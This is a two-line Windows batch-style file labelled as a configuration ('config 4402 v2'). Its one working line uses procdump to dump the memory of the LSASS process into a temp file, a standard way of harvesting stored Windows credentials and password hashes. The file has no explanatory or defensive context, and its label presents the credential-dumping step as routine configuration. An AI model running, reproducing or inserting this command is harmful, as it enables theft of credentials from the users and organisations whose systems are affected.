REM config 4402 v2
procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\ls.dmp
